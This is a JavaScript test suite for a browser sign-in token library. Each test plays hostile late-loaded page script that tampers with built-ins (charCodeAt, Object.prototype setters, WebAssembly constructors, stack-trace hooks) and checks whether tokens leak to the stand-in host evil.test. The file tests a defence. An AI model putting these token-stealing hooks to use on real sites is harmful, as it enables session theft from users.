// Page mode against script that comes late and knows the package: each test is one way to a token or to the core.

import assert from "node:assert/strict";

import { send } from "./support/calls.mjs";
import { clickSignIn, endOfSignIn, finishIn } from "./support/popup.mjs";
import { leave, signIn } from "./support/sign-in.mjs";
import { startStage } from "./support/stage.mjs";
import { test } from "./support/test.mjs";
import { deadly, plant } from "./support/trap.mjs";

/** A page that is signed in, and what its requests to a host that isn't on the list had in their headers. */
async function startSignedIn(t, { planted = false, ...options } = {}) {
  const stage = await startStage(t, { mode: "page", ...options });
  if (planted) await plant(stage, "page");
  const sent = [];
  await stage.context.route("https://evil.test/**", async (route) => {
    sent.push(await route.request().allHeaders());
    await route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" }, body: "thanks" });
  });
  const page = await stage.open();
  await signIn(page);
  return { stage, page, sent };
}

const tokensIn = (stage, text) => stage.authorizationServer.issuedTokens().filter((token) => text.includes(token)).length;

test("page: what the core reads of a URL is what is requested, whatever charCodeAt says (STORE-9, USE-3, T7)", async (t) => {
  const { stage, page, sent } = await startSignedIn(t);
  await page.evaluate(async (listed) => {
    const evil = "https://evil.test/".padEnd(listed.length, "x");
    const { charCodeAt } = String.prototype;
    String.prototype.charCodeAt = function (at) {
      return Reflect.apply(charCodeAt, String(this) === evil ? listed : this, [at]);
    };
    await app.outcome(() => app.auth.fetch(evil));
  }, stage.v1("files"));
  assert.equal(tokensIn(stage, JSON.stringify(sent)), 0, "a token went to a host that isn't on the list");
});

test("page: a URL that is an object is read once (STORE-9, USE-3, T7)", async (t) => {
  const { stage, page, sent } = await startSignedIn(t);
  await page.evaluate(async (listed) => {
    const href = { length: listed.length, charCodeAt: (at) => listed.charCodeAt(at), toString: () => "https://evil.test/" };
    Object.defineProperty(URL.prototype, "href", { get: () => href });
    await app.outcome(() => app.auth.fetch(listed));
  }, stage.v1("files"));
  assert.equal(tokensIn(stage, JSON.stringify(sent)), 0, "a token went to a host that isn't on the list");
});

test("page: a setter on Object.prototype sees no bound token (STORE-9, T2, T15)", async (t) => {
  const { stage, page } = await startSignedIn(t, { server: { dpop: true }, api: { dpop: true } });
  const seen = await page.evaluate(async (url) => {
    const loot = [];
    Object.defineProperty(Object.prototype, "dpop", {
      configurable: true,
      set(value) {
        loot.push(JSON.stringify(this));
        Object.defineProperty(this, "dpop", { value, enumerable: true, configurable: true, writable: true });
      },
    });
    await app.send(url);
    return loot.join();
  }, stage.v1("files"));
  assert.equal(tokensIn(stage, seen), 0, "the setter has the token");
});

/** Signs in with a popup, so that the page and what was done to it stay. */
async function signInAgain(page) {
  const popup = await clickSignIn(page);
  await finishIn(popup);
  const { error } = await endOfSignIn(page);
  assert.equal(error, undefined);
}

/** Makes the planted wasm break down. */
const breakDown = async (stage, page) => (await send(page, stage.v1("files"), { tokenkeep: { timeout: deadly } })).error?.code;

test("page: late script that makes the core start anew doesn't get at its memory (STORE-8, T4, MSG-10)", async (t) => {
  const { stage, page } = await startSignedIn(t, { planted: true });
  await page.evaluate(() => {
    for (const name of ["Instance", "Module"])
      WebAssembly[name] = new Proxy(WebAssembly[name], { construct: (Native, given) => (globalThis.stolen = new Native(...given)) });
  });
  assert.equal(await breakDown(stage, page), "TOKENKEEP_HOLDER_RESTARTED");
  await signInAgain(page);
  assert.equal(await page.evaluate(() => typeof globalThis.stolen), "undefined", "the page's functions were asked for the module");
});

test("page: late script that makes the core start anew doesn't get at the core (STORE-8, T4, MSG-10)", async (t) => {
  const { stage, page } = await startSignedIn(t, { planted: true });
  await page.evaluate(() => {
    const { register } = FinalizationRegistry.prototype;
    FinalizationRegistry.prototype.register = function (...given) {
      [globalThis.stolen] = given;
      return Reflect.apply(register, this, given);
    };
  });
  assert.equal(await breakDown(stage, page), "TOKENKEEP_HOLDER_RESTARTED");
  await signInAgain(page);
  const headers = await page.evaluate(() =>
    Array.from({ length: 20 }, (_, generation) => globalThis.stolen?.authorization(generation)).join(),
  );
  assert.equal(tokensIn(stage, headers), 0, "the core hands out tokens");
});

test("page: late script that makes the core start anew doesn't get its functions (STORE-8, T4, MSG-10)", async (t) => {
  const { stage, page } = await startSignedIn(t, { planted: true });
  await page.evaluate(() => {
    const { fromEntries } = Object;
    Object.fromEntries = (entries) => {
      const made = fromEntries(entries);
      if (made.authorization) globalThis.stolen = made;
      return made;
    };
  });
  assert.equal(await breakDown(stage, page), "TOKENKEEP_HOLDER_RESTARTED");
  await signInAgain(page);
  const headers = await page.evaluate(() =>
    Array.from({ length: 20 }, (_, generation) => globalThis.stolen?.authorization(generation)).join(),
  );
  assert.equal(tokensIn(stage, headers), 0, "the core hands out tokens");
});

test("page: late script that makes the core start anew doesn't choose what it is configured with (STORE-9, USE-3, MSG-10)", async (t) => {
  const { stage, page, sent } = await startSignedIn(t, { planted: true });
  await page.evaluate(() => {
    const { charCodeAt } = String.prototype;
    String.prototype.charCodeAt = function (at) {
      const text = String(this);
      const [, listed] = text.match(/"resourceServers":\["([^"]+)"/) ?? [];
      if (listed) globalThis.evil = "https://evil.test/".padEnd(listed.length - 1, "x").concat("/");
      return Reflect.apply(charCodeAt, listed ? text.replace(listed, globalThis.evil) : text, [at]);
    };
  });
  assert.equal(await breakDown(stage, page), "TOKENKEEP_HOLDER_RESTARTED");
  await signInAgain(page);
  await page.evaluate(() => app.outcome(() => app.auth.fetch(globalThis.evil ?? "https://evil.test/")));
  assert.equal(tokensIn(stage, JSON.stringify(sent)), 0, "a token went to a host that isn't on the list");
});

test("page: text beyond ASCII is read whole, whatever slice says (STORE-9, T7)", async (t) => {
  const stage = await startStage(t, { mode: "page" });
  const page = await stage.open();
  await page.evaluate(() => {
    const { slice } = String.prototype;
    String.prototype.slice = function (start, end) {
      return Reflect.apply(slice, this, [start, end]).replace("ä", "e");
    };
  });
  const loginHint = "ada@exämple.test";
  assert.equal((await leave(page, { loginHint })).login_hint, loginHint);
});

test("page: late script can't have the core do without randomness (PKCE, STORE-9)", async (t) => {
  const stage = await startStage(t, { mode: "page" });
  const states = [];
  for (let n = 0; n < 2; n += 1) {
    const page = await stage.open();
    await page.evaluate(() => {
      const { apply } = Function.prototype;
      // What fills a buffer is called with its address and its length.
      Function.prototype.apply = function (that, given) {
        return typeof given?.[0] === "number" && given.length === 2 ? undefined : Reflect.apply(apply, this, [that, given]);
      };
    });
    const { state, code_challenge: challenge } = await leave(page);
    states.push(`${state} ${challenge}`);
  }
  assert.notEqual(states[0], states[1]);
});

test("page: a stack trace made by late script inside of a call gives no instance away (STORE-8, T4)", async (t) => {
  const { stage, page } = await startSignedIn(t);
  const text = await page.evaluate(async () => {
    const found = new Set();
    Error.prepareStackTrace = (_, sites) => {
      for (const site of sites) for (const name of ["getThis", "getFunction"]) found.add(site[name]());
      return "";
    };
    const { now } = performance;
    performance.now = () => (new Error().stack, now.call(performance));
    await app.auth.stats();
    performance.now = now;
    delete Error.prepareStackTrace;
    const exported = [...found].flatMap((one) => Object.values(one?.exports ?? {}));
    return exported.map(({ buffer }) => new TextDecoder("latin1").decode(buffer)).join();
  });
  assert.equal(tokensIn(stage, text), 0, "the memory was reached");
});

test("page: the stack of an error that the package throws gives no instance away (STORE-8, T4)", async (t) => {
  const { stage, page } = await startSignedIn(t);
  const text = await page.evaluate(async () => {
    const found = new Set();
    Error.prepareStackTrace = (_, sites) => {
      for (const site of sites) found.add(site.getThis());
      return "";
    };
    // Nothing is patched that the package calls.
    await app.auth.enterToken("x").catch((error) => error.stack);
    delete Error.prepareStackTrace;
    const exported = [...found].flatMap((one) => Object.values(one?.exports ?? {}));
    return exported.map(({ buffer }) => new TextDecoder("latin1").decode(buffer)).join();
  });
  assert.equal(tokensIn(stage, text), 0, "the memory was reached");
});
